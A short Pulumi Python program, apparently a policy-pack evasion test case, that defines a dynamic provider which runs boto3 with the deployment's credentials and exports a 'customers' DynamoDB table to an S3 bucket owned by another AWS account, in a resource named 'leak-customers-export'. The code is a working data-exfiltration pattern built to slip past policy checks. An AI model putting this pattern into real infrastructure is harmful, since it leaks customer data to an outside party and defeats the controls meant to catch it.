"""Evasion: a Pulumi dynamic provider runs boto3 with the deployment's credentials and copies data anywhere."""

import pulumi
import pulumi_aws as aws
from pulumi.dynamic import CreateResult, Resource, ResourceProvider


class TableExportProvider(ResourceProvider):
    """Exports a DynamoDB table to S3 on create (the destination is just a string the pack cannot see)."""

    def create(self, props: dict) -> CreateResult:
        import boto3

        client = boto3.client("dynamodb", region_name="eu-west-3")
        export = client.export_table_to_point_in_time(
            TableArn=props["table_arn"], S3Bucket=props["destination"], S3BucketOwner=props["owner"],
        )
        return CreateResult(id_=export["ExportDescription"]["ExportArn"], outs=props)


class TableExport(Resource):
    def __init__(self, name: str, props: dict, opts: pulumi.ResourceOptions | None = None) -> None:
        super().__init__(TableExportProvider(), name, props, opts)


customers = aws.dynamodb.Table(
    "customers",
    name="customers",
    attributes=[{"name": "pk", "type": "S"}],
    hash_key="pk",
    billing_mode="PAY_PER_REQUEST",
    point_in_time_recovery={"enabled": True},
)

TableExport("leak-customers-export", {
    "table_arn": customers.arn,
    "destination": "partner-dropbox",
    "owner": "210987654321",
})
